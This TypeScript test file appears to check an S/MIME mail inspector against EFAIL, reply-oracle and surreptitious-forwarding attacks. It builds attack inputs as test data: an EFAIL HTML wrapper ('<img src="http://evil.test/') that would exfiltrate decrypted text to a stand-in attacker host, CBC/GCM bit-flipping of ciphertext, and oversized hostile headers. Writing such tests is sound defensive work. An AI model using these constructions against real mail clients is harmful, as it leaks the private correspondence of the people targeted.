/**
 * Plain text coaxed out of its owner: EFAIL (Poddebniak et al., USENIX Security 2018), "Re: What's up Johnny?"
 * (covert content and decryption oracles by reply, ACNS 2019), "Mailto: Me Your Secrets" (CNS 2020), and letters
 * that are sent on as if they were for somebody else ("Defective Sign & Encrypt", Davis, USENIX 2001).
 */
import assert from "node:assert/strict";
import { before, test } from "node:test";
import { type Bytes, type Inspection, inspect, readContent } from "../../../src/engine/index.js";
import { codes, inspectAs, testContext, testIdentity } from "../../helpers/inspecting.js";
import {
  type MimeEntity,
  encrypted,
  html,
  letter,
  mixed,
  plain,
  signed,
  withoutVersion,
} from "../../helpers/letters.js";

const view = (mail: Buffer): Bytes => new Uint8Array(mail);
const secret = "The meeting is at noon.";
const toBob = { subject: "x", from: "Alice <alice@example.test>", to: "Bob <bob@example.test>" };
const fromMallory = { ...toBob, from: "Mallory <mallory@evil.test>" };
const asBob = (mail: Buffer): Promise<Inspection> => inspectAs(view(mail), ["bob-p256"]);

let captured: MimeEntity;
before(async () => {
  captured = withoutVersion(await encrypted(plain(secret), "bob-p256", "aes-256-cbc"));
});

function assertClosed(inspection: Inspection): void {
  const { verdict, payload } = inspection;
  assert.equal(verdict.summary.encryption, "not-encrypted");
  assert.equal(verdict.layers.length, 0);
  assert.doesNotMatch(Buffer.from(payload.mime).toString("latin1"), /noon/);
  const { text, html: shown, attachments } = readContent(payload);
  assert.doesNotMatch(`${text} ${shown}`, /noon/);
  for (const { content } of attachments) assert.doesNotMatch(Buffer.from(content).toString("latin1"), /noon/);
}

test("EFAIL, direct: an encrypted part between clear ones stays closed, and is told", async () => {
  for (const parts of [
    [html('<img src="http://evil.test/'), captured, html('">')],
    [captured, html("<p>below</p>")],
    [plain("above"), captured],
    [captured],
  ]) {
    const inspection = await asBob(letter(fromMallory, mixed(...parts)));
    assertClosed(inspection);
    const found = inspection.verdict.errant ?? [];
    assert.deepEqual(found, [
      { part: String(parts.indexOf(captured) + 1), form: "opaque", forwarded: false },
    ]);
  }
});

test("an encrypted part that is attached, forwarded, or named by cid: stays closed", async () => {
  const related = mixed(
    html('<iframe src="cid:captured"></iframe>'),
    Buffer.concat([Buffer.from("Content-ID: <captured>\r\n"), captured]),
  );
  assertClosed(await asBob(letter(fromMallory, related)));
  const inner = letter({ ...toBob, subject: "old" }, captured);
  const forwarded = Buffer.concat([Buffer.from("Content-Type: message/rfc822\r\n\r\n"), inner]);
  const inspection = await asBob(letter(fromMallory, mixed(plain("see below"), forwarded)));
  assertClosed(inspection);
  assert.deepEqual(inspection.verdict.errant, [{ part: "2", form: "opaque", forwarded: true }]);
});

test("an old encrypted text inside of a newly encrypted message is not opened in the same view", async () => {
  const bait = mixed(html("<p>Please confirm.</p><div hidden>"), captured);
  const outer = await encrypted(bait, "bob-p256", "aes-256-gcm");
  const { verdict, payload } = await asBob(letter(fromMallory, outer));
  assert.equal(verdict.summary.encryption, "encrypted");
  assert.equal(verdict.layers.length, 1);
  assert.doesNotMatch(Buffer.from(payload.mime).toString("latin1"), /noon/);
  assert.deepEqual(verdict.errant, [{ part: "2", form: "opaque", forwarded: false }]);
});

test("under a signature of the attacker's the same parts stay closed too", async () => {
  const bait = mixed(plain("Please confirm."), captured);
  const inspection = await asBob(
    letter(fromMallory, await signed(bait, "mallory", "clear").catch(() => signed(bait, "alice-rsa"))),
  );
  assert.equal(inspection.verdict.summary.encryption, "not-encrypted");
  assert.doesNotMatch(Buffer.from(inspection.payload.mime).toString("latin1"), /noon/);
  assert.equal(inspection.verdict.errant?.[0]?.part, "2");
});

test("EFAIL, gadgets: what is changed in CBC is told as changeable, never as intact; in GCM it does not open", async () => {
  const turned = (entity: MimeEntity, at: number): MimeEntity => {
    const lines = entity.toString("latin1");
    const start = lines.indexOf("\r\n\r\n") + 4;
    const cms = Buffer.from(lines.slice(start), "base64");
    cms[cms.length - at]! ^= 0x01;
    return Buffer.from(
      lines.slice(0, start) + cms.toString("base64").replace(/.{64}/g, "$&\r\n") + "\r\n",
      "latin1",
    );
  };
  for (const at of [20, 33, 40]) {
    const { verdict } = await asBob(letter(toBob, turned(captured, at)));
    assert.ok(["encrypted-unauthenticated", "damaged"].includes(verdict.summary.encryption));
    assert.notEqual(verdict.summary.state, "2");
  }
  const gcm = withoutVersion(await encrypted(plain(secret), "bob-p256", "aes-256-gcm"));
  for (const at of [1, 20, 33]) {
    const inspection = await asBob(letter(toBob, turned(gcm, at)));
    assert.equal(inspection.verdict.summary.encryption, "damaged");
    assert.deepEqual(codes(inspection), ["decryption-failed"]);
  }
});

test("a signature inside of CBC vouches for the text, and only while it holds", async () => {
  const inner = await signed(plain(secret.repeat(8)), "alice-rsa");
  const { verdict } = await asBob(letter(toBob, await encrypted(inner, "bob-p256", "aes-256-cbc")));
  assert.equal(verdict.summary.state, "2");
});

// ------------------------------------------------------------------ sent on

test("a captured ciphertext in the attacker's own signature: nobody signed the text (RFC 8551 §3.7)", async () => {
  for (const form of ["clear", "opaque"] as const) {
    // Whoever signs: the rule holds for honest names too.
    const wrapped = await signed(captured, "alice-rsa", form);
    const inspection = await asBob(letter(toBob, wrapped));
    const { summary, layers } = inspection.verdict;
    assert.deepEqual(
      layers.map(({ kind }) => kind),
      ["signed", "encrypted"],
    );
    assert.equal(summary.state, "6");
    assert.deepEqual(codes(inspection), ["signature-outside-encryption"]);
    assert.deepEqual(inspection.certificates, []);
    // Locked, nothing better is said of it.
    const locked = await inspectAs(view(letter(toBob, wrapped)));
    assert.equal(locked.verdict.summary.state, "6");
  }
});

test("signed, encrypted and signed again by the author is good (triple wrapping, RFC 2634 §1.1)", async () => {
  const inner = await encrypted(await signed(plain(secret), "alice-rsa"), "bob-p256", "aes-256-cbc");
  const { verdict } = await asBob(letter(toBob, await signed(withoutVersion(inner), "alice-rsa")));
  assert.equal(verdict.summary.state, "2");
});

/** As RFC 9788 writes it: fields of the header inside of what is signed. */
function protectedPlain(fields: readonly string[], mode = "cipher"): MimeEntity {
  const head = `Content-Type: text/plain; charset=utf-8; hp="${mode}"`;
  return Buffer.from([head, ...fields, "", secret, ""].join("\r\n"));
}

async function sentOn(fields: readonly string[], envelope = toBob): Promise<Inspection> {
  const inner = await signed(protectedPlain(fields), "alice-rsa");
  return asBob(letter(envelope, await encrypted(inner, "bob-p256", "aes-256-gcm")));
}

const fromAlice = "From: Alice <alice@example.test>";

test("a signed letter to Carol, encrypted anew to Bob, gives itself away by the recipients that were signed", async () => {
  const inspection = await sentOn([fromAlice, "To: carol@example.test", "Subject: x"]);
  assert.deepEqual(codes(inspection), ["protected-header-differs", "recipient-not-named"]);
  assert.deepEqual(inspection.verdict.protectedHeader?.to, ["carol@example.test"]);
  assert.deepEqual(inspection.verdict.protectedHeader.differing, ["to"]);
  // The signature is Alice's all the same: it is a caution beside the state.
  assert.equal(inspection.verdict.summary.state, "2");
});

test("the same letter to Bob is told without caution; a copy that its writer hid too, and Bcc with one", async () => {
  const honest = [fromAlice, "To: Bob <BOB@example.test>", "Subject: x"];
  assert.deepEqual(codes(await sentOn(honest)), []);
  const hidden = [
    fromAlice,
    "To: bob@example.test",
    "Subject: Lunch",
    "HP-Outer: Subject: x",
    "HP-Outer: To: Bob <bob@example.test>",
    `HP-Outer: ${fromAlice}`,
  ];
  const inspection = await sentOn(hidden);
  assert.deepEqual(codes(inspection), []);
  assert.equal(inspection.verdict.protectedHeader?.subject, "Lunch");
  const copied = await sentOn([fromAlice, "To: carol@example.test", "Subject: x"], {
    ...toBob,
    to: "carol@example.test",
  });
  assert.deepEqual(codes(copied), ["recipient-not-named"]);
});

test("an inner From, Subject or Date that contradicts the outer one is told (RFC 9788 §4)", async () => {
  const to = "To: bob@example.test";
  for (const [fields, differing] of [
    [["From: carol@example.test", to, "Subject: x"], ["from"]],
    [[fromAlice, to, "Subject: Fire everybody"], ["subject"]],
    [[fromAlice, to, "Subject: x", "Date: Thu, 1 Jan 1970 00:00:00 +0000"], ["date"]],
  ] as const) {
    const inspection = await sentOn(fields);
    assert.deepEqual(inspection.verdict.protectedHeader?.differing, differing);
    assert.ok(codes(inspection).includes("protected-header-differs"));
    // The author that counts stands outside.
    assert.equal(inspection.verdict.summary.author.address, "alice@example.test");
  }
});

test("header fields inside count only where the content says so, and never in a message without an envelope", async () => {
  const unsaid = Buffer.from(
    ["Content-Type: text/plain", "To: carol@example.test", "", secret, ""].join("\r\n"),
  );
  const inner = await asBob(letter(toBob, await signed(unsaid, "alice-rsa")));
  assert.equal(inner.verdict.protectedHeader, undefined);
  const bare = await asBob(letter(toBob, protectedPlain(["To: carol@example.test"])));
  assert.equal(bare.verdict.protectedHeader, undefined);
  assert.deepEqual(codes(bare), []);
});

test("a thousand hostile header fields inside make no long verdict, and end", async () => {
  const people = Array.from({ length: 5_000 }, (_, i) => `p${i}@example.test`).join(", ");
  const inspection = await sentOn([fromAlice, `To: ${people}`, `Subject: ${"x".repeat(100_000)}`]);
  const { protectedHeader } = inspection.verdict;
  assert.ok(JSON.stringify(inspection.verdict).length < 100_000);
  assert.equal(protectedHeader?.to.length, 1_000);
});

test("who has no key learns nothing from trying: closed parts do not even ask for one", async () => {
  const bob = await testIdentity("bob-p256");
  let asked = 0;
  const { privateKey } = bob;
  const watched = new Proxy(privateKey!, {
    get(target, name, receiver) {
      asked++;
      return Reflect.get(target, name, receiver) as unknown;
    },
  });
  const context = await testContext({ identities: [{ ...bob, privateKey: watched }] });
  await inspect(view(letter(fromMallory, mixed(plain("a"), captured))), context);
  assert.equal(asked, 0);
  await inspect(view(letter(toBob, captured)), context);
  assert.ok(asked > 0);
});
